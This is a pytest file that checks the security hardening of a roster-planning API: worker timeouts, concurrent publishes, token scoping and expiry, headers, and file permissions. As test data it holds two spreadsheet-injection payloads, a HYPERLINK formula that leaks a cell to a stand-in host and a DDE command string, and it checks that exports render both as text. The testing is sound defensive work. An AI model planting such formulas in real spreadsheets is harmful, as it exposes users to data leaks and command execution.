"""The service under attack, continued (issue 18): work past its deadline (4), formulas in Excel
exports (5), planners publishing over each other (7), and the smaller items (8): the server's own
exception log, token expiry, last use and company scope, cancelling another's job, private
response headers, the database file's mode."""

from __future__ import annotations

import contextlib
import datetime as dt
import io
import logging
import os
import stat
import threading
import time
from pathlib import Path

import openpyxl
import pytest
from support import MONDAY, V1, serve_in_thread, small_json

from api.app import create_app
from api.core.auth import create_token
from api.core.settings import Settings
from api.runtime.jobs import CONTEXT, SolvePool, Unavailable
from api.runtime.work import EXIT_OVERDUE, within_deadline
from api.storage.tables import Token
from solver.cli import main as cli_main

FORMULA = '=HYPERLINK("http://example.invalid/?leak="&A1,"klik")'


def _alive(pid: int) -> bool:
    try:
        with open(f"/proc/{pid}/stat") as handle:
            return handle.read().split()[2] != "Z"
    except FileNotFoundError:
        return False


# --- 4. work that outlives its request ----------------------------------------------------------


def test_a_worker_ends_itself_at_its_deadline():
    process = CONTEXT.Process(target=within_deadline, args=(time.time() + 0.5, time.sleep, 600))
    process.start()
    process.join(timeout=60)
    assert process.exitcode == EXIT_OVERDUE


def test_an_overdue_worker_is_stopped_and_replaced():
    pool = SolvePool(1, 0)
    pool.start()
    try:
        (before,) = pool.worker_pids()
        with pytest.raises(Unavailable, match="did not finish in time"):
            pool.run(time.sleep, 600, timeout=1.0)
        assert not _alive(before)
        after = pool.run(os.getpid, timeout=60)
        assert after != before and _alive(after)
        assert pool.stats()["overdue"] == 1
    finally:
        pool.shutdown()


def test_shutdown_stops_busy_workers_at_once():
    pool = SolvePool(1, 1)
    pool.start()
    (worker,) = pool.worker_pids()
    outcome = []

    def hold() -> None:
        try:
            pool.run(time.sleep, 600, timeout=900)
        except Unavailable as exc:
            outcome.append(str(exc))

    holder = threading.Thread(target=hold)
    holder.start()
    while pool.stats()["in_flight"] < 1:
        time.sleep(0.01)
    pool.shutdown()
    holder.join(timeout=60)
    assert not holder.is_alive() and outcome, "the solve still waited after shutdown"
    assert not _alive(worker)


def slow_job(progress):
    """A job that never ends by itself (module level: it runs in the job's own process)."""
    progress(0, 1)
    time.sleep(600)


def test_a_job_past_its_limit_is_stopped_and_failed(api):
    api.upload_small("slowjob")
    jobs = api.app.state.jobs
    saved = jobs.time_cap
    jobs.time_cap = 1.0
    try:
        job_id = jobs.start("scenario", "slowjob", slow_job, {}, {}, None)
        path = f"/companies/slowjob/scenarios/{job_id}"
        for _ in range(600):
            state = api.get(f"{path}?lang=en", "director").json()
            if state["status"] != "running":
                break
            time.sleep(0.1)
    finally:
        jobs.time_cap = saved
    assert state["status"] == "failed"
    assert "limit" in state["error"]["what"]
    assert not jobs._running


def test_suggest_shares_one_time_limit_over_its_solves():
    from api.runtime.work import SharedDeadline
    from solver.roster.model import SolveOptions

    options = SharedDeadline(SolveOptions(time_limit=5.0, seed=7), 0.0)
    assert options.time_limit == pytest.approx(0.05)  # nothing left: each solve gets a sliver
    assert options.seed == 7


# --- 5. formulas in Excel exports ---------------------------------------------------------------


def _texts(workbook: bytes) -> list:
    book = openpyxl.load_workbook(io.BytesIO(workbook))
    return [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]


def test_a_site_and_a_publisher_named_as_formulas_are_exported_as_text(api):
    company = small_json()
    company["enclaves"][0]["name"] = FORMULA
    assert api.put("/companies/formula", "admin", json=company).status_code == 200
    with api.app.state.sessions() as session:
        _row, secret = create_token(session, "planner", "=cmd|' /C calc'!A0", ["formula"])
    planner = {"Authorization": f"Bearer {secret}"}
    solved = api.client.post(
        f"{V1}/companies/formula/solve", json={"date": MONDAY}, headers=planner
    ).json()
    path = f"{V1}/companies/formula/rosters/{MONDAY}"
    published = api.client.post(
        f"{path}/publish", json={"solve_id": solved["solve_id"]}, headers=planner
    )
    assert published.status_code == 201
    exported = api.client.get(f"{path}/export.xlsx", headers=planner)
    cells = _texts(exported.content)
    formulas = [c.value for c in cells if c.data_type == "f"]
    assert formulas == []
    texts = {c.value for c in cells if c.data_type == "s"}
    assert FORMULA in texts and "=cmd|' /C calc'!A0" in texts


def test_a_scenario_variant_named_as_a_formula_is_exported_as_text(tmp_path):
    from support import WESTLANDIA

    from solver.analysis.scenario import load_scenario, run_scenario, write_xlsx

    scenario = tmp_path / "f.yaml"
    scenario.write_text(
        f"company: {WESTLANDIA}\nfrom: 2026-12-07\nto: 2026-12-07\ntime_limit: 2\nvariants:\n"
        f"  - name: '{FORMULA.replace(chr(39), chr(39) * 2)}'\n    changes: []\n",
        encoding="utf-8",
    )
    result = run_scenario(load_scenario(scenario), workers=1).to_json()
    out = tmp_path / "f.xlsx"
    write_xlsx(result, out, "nl")
    cells = _texts(out.read_bytes())
    assert [c.value for c in cells if c.data_type == "f"] == []
    assert FORMULA in {c.value for c in cells}


# --- 7. two planners publish over each other ----------------------------------------------------


def _solve_id(api, company: str) -> str:
    response = api.post(f"/companies/{company}/solve", "planner", json={"date": MONDAY})
    assert response.status_code == 200, response.text
    return response.json()["solve_id"]


def test_a_publish_over_a_version_the_planner_did_not_see_is_409(api):
    api.upload_small("race")
    path = f"/companies/race/rosters/{MONDAY}/publish"
    first, second = _solve_id(api, "race"), _solve_id(api, "race")
    sofie = api.post(path, "planner", json={"solve_id": first, "base_version": None})
    assert sofie.status_code == 201 and sofie.json()["version"] == 1
    late = api.post(path, "planner", json={"solve_id": second, "base_version": None})
    assert late.status_code == 409
    error = late.json()["error"]
    assert error["current"]["version"] == 1
    assert error["current"]["published_by"] == "planner test"
    assert error["where"] == "$.base_version"
    seen = api.post(path, "planner", json={"solve_id": second, "base_version": 1})
    assert seen.status_code == 201 and seen.json()["version"] == 2
    # A client that sends no base_version (older page, scripts) publishes as before.
    legacy = api.post(path, "planner", json={"solve_id": first})
    assert legacy.status_code == 201 and legacy.json()["version"] == 3


def test_simultaneous_publishes_from_the_same_version_leave_one_winner_per_round(api):
    api.upload_small("rounds")
    path = f"/companies/rounds/rosters/{MONDAY}/publish"
    solves = [_solve_id(api, "rounds"), _solve_id(api, "rounds")]
    seen = None
    for _round in range(20):
        answers = []
        barrier = threading.Barrier(2)

        def publish(solve_id: str, base=seen, barrier=barrier, answers=answers) -> None:
            barrier.wait()
            body = {"solve_id": solve_id, "base_version": base}
            answers.append(api.post(path, "planner", json=body))

        threads = [threading.Thread(target=publish, args=(s,)) for s in solves]
        for thread in threads:
            thread.start()
        for thread in threads:
            thread.join()
        statuses = sorted(a.status_code for a in answers)
        assert statuses == [201, 409], statuses
        seen = next(a for a in answers if a.status_code == 201).json()["version"]
    assert seen == 20


# --- 8. the smaller items -----------------------------------------------------------------------


def test_the_servers_own_exception_log_carries_no_message(tmp_path):
    app = create_app(Settings(database_url=f"sqlite:///{tmp_path / 'log.db'}", pool_size=1))

    who = small_json()["coaches"][0]["name"]  # a name that reaches an exception's message

    @app.get("/boom")
    def boom():
        raise KeyError(who)

    import httpx

    seen = io.StringIO()
    handler = logging.StreamHandler(seen)
    server_log = logging.getLogger("uvicorn.error")
    with serve_in_thread(app) as base:
        server_log.addHandler(handler)  # after uvicorn configured its loggers
        try:
            assert httpx.get(f"{base}/boom", timeout=30).status_code == 500
            for _ in range(200):  # the server logs after it has answered
                if "KeyError" in seen.getvalue():
                    break
                time.sleep(0.05)
        finally:
            server_log.removeHandler(handler)
    text = seen.getvalue()
    assert "Exception in ASGI application" in text and "KeyError" in text
    assert who not in text


def test_an_expired_token_is_refused_and_use_is_listed(api, monkeypatch, capsys):
    with api.app.state.sessions() as session:
        past = dt.datetime.now(dt.UTC) - dt.timedelta(minutes=1)
        _row, expired = create_token(session, "admin", "verlopen", expires_at=past)
        soon = dt.datetime.now(dt.UTC) + dt.timedelta(days=1)
        row, valid = create_token(session, "admin", "geldig-tot-morgen", expires_at=soon)
    me = f"{V1}/me"
    assert api.client.get(me, headers={"Authorization": f"Bearer {expired}"}).status_code == 401
    assert api.client.get(me, headers={"Authorization": f"Bearer {valid}"}).status_code == 200
    listed = {t["id"]: t for t in api.get("/tokens", "admin").json()["tokens"]}
    assert listed[row.id]["last_used_at"] is not None
    assert listed[row.id]["expires_at"] is not None

    monkeypatch.setenv("DATABASE_URL", api.app.state.settings.database_url)
    assert cli_main(["token", "list"]) == 0
    out = capsys.readouterr().out
    assert "laatst gebruikt" in out and "geldig-tot-morgen" in out
    line = next(x for x in out.splitlines() if "geldig-tot-morgen" in x)
    assert line.count(str(dt.datetime.now(dt.UTC).year)) >= 2  # created and last used


def test_a_token_scoped_to_one_company_reads_no_other(api):
    api.upload_small("ours")
    api.upload_small("theirs")
    with api.app.state.sessions() as session:
        _row, secret = create_token(session, "planner", "planning ons", ["ours"])
    mine = {"Authorization": f"Bearer {secret}"}
    assert api.client.get(f"{V1}/me", headers=mine).json()["companies"] == ["ours"]
    assert api.client.get(f"{V1}/companies/ours/people", headers=mine).status_code == 200
    other = api.client.get(f"{V1}/companies/theirs/people", headers=mine)
    assert other.status_code == 403 and other.json()["error"]["where"] == "path.company_id"
    listed = api.client.get(f"{V1}/companies", headers=mine).json()["companies"]
    assert {c["id"] for c in listed} == {"ours"}
    # A solve of the other company is not found by id either.
    theirs = _solve_id(api, "theirs")
    assert api.client.get(f"{V1}/solves/{theirs}", headers=mine).status_code == 404
    # Only an admin token is for every company.
    refused = api.post("/tokens", "admin", json={"role": "planner", "name": "alles"})
    assert refused.status_code == 422 and refused.json()["error"]["where"] == "$.companies"


def test_the_command_line_makes_scoped_tokens_only(api, monkeypatch, capsys):
    monkeypatch.setenv("DATABASE_URL", api.app.state.settings.database_url)
    assert cli_main(["token", "create", "--role", "planner"]) == 2
    assert "--company" in capsys.readouterr().err
    code = cli_main(
        ["token", "create", "--role", "hr", "--company", "ours", "--expires-in-days", "30"]
    )
    assert code == 0
    with api.app.state.sessions() as session:
        newest = session.query(Token).order_by(Token.id.desc()).first()
    assert newest.companies == ["ours"] and newest.expires_at is not None


def test_a_director_cancels_only_their_own_job(api):
    api.upload_small("cancel")
    with api.app.state.sessions() as session:
        owner, owner_secret = create_token(session, "director", "directie A", ["cancel"])
        _other, other_secret = create_token(session, "director", "directie B", ["cancel"])
    jobs = api.app.state.jobs
    job_id = jobs.start("scenario", "cancel", slow_job, {}, {}, owner.id)
    path = f"{V1}/companies/cancel/scenarios/{job_id}"
    try:
        other = api.client.delete(path, headers={"Authorization": f"Bearer {other_secret}"})
        assert other.status_code == 403
        assert api.get(path.removeprefix(V1), "director").json()["status"] == "running"
        own = api.client.delete(path, headers={"Authorization": f"Bearer {owner_secret}"})
        assert own.status_code == 200 and own.json()["status"] == "cancelled"
        for _ in range(600):  # the slot frees once the process is gone
            if not jobs._running:
                break
            time.sleep(0.1)
        second = jobs.start("scenario", "cancel", slow_job, {}, {}, owner.id)
        by_admin = api.delete(f"/companies/cancel/scenarios/{second}", "admin")
        assert by_admin.status_code == 200 and by_admin.json()["status"] == "cancelled"
    finally:
        for running in list(jobs._running):
            jobs.cancel(running)


def test_answers_with_people_are_not_cached_or_sniffed(api):
    api.upload_small("headers")
    for response in (
        api.get("/companies/headers/people", "planner"),
        api.get("/companies/headers/people"),  # 401
        api.get("/companies/headers", "director"),
    ):
        assert response.headers["cache-control"] == "no-store", response.status_code
        assert response.headers["x-content-type-options"] == "nosniff"
    page = api.client.get("/")
    assert page.headers["x-content-type-options"] == "nosniff"


def test_the_sqlite_file_is_readable_by_its_owner_only(api):
    path = Path(api.app.state.settings.database_url.removeprefix("sqlite:///"))
    files = sorted(path.parent.glob(path.name + "*"))  # with its -wal and -shm
    assert path in files
    assert {f.name: stat.S_IMODE(f.stat().st_mode) & 0o077 for f in files} == {
        f.name: 0 for f in files
    }


def test_sigterm_ends_the_server_within_seconds_of_a_busy_worker(tmp_path):
    import signal

    import httpx
    from support import free_port, westlandia_zip
    from test_api_restart import _serve, _token

    db = str(tmp_path / "enclaveplan.db")
    admin = {"Authorization": f"Bearer {_token(db, 'admin')}"}
    port = free_port()
    base = f"http://127.0.0.1:{port}/api/v1"
    server = _serve(db, port)
    try:
        with httpx.Client(timeout=120) as client:
            stored = client.put(
                f"{base}/companies/w/files",
                files={"file": ("w.zip", westlandia_zip())},
                headers=admin,
            )
            assert stored.status_code == 200, stored.text
            planner = client.post(
                f"{base}/tokens",
                json={"role": "planner", "name": "p", "companies": ["w"]},
                headers=admin,
            ).json()["token"]

        def ask() -> None:  # a suggestion: many solves, held in a worker
            with contextlib.suppress(httpx.HTTPError):
                httpx.post(
                    f"{base}/companies/w/suggest",
                    json={"date": MONDAY, "site": "E05", "absences": []},
                    headers={"Authorization": f"Bearer {planner}"},
                    timeout=120,
                )

        asking = threading.Thread(target=ask)
        asking.start()
        for _ in range(400):
            if httpx.get(f"{base}/health", timeout=5).json()["pool"]["in_flight"] >= 1:
                break
            time.sleep(0.02)
        server.send_signal(signal.SIGTERM)
        server.wait(timeout=60)  # a guard only: what is asserted is that it ended at all
        assert server.returncode is not None
        asking.join(timeout=60)
        for _ in range(100):  # the workers notice within a second that the service is gone
            try:
                os.killpg(server.pid, 0)
            except ProcessLookupError:
                break
            time.sleep(0.1)
        with pytest.raises(ProcessLookupError):
            os.killpg(server.pid, 0)
    finally:
        with contextlib.suppress(ProcessLookupError):
            os.killpg(server.pid, signal.SIGKILL)
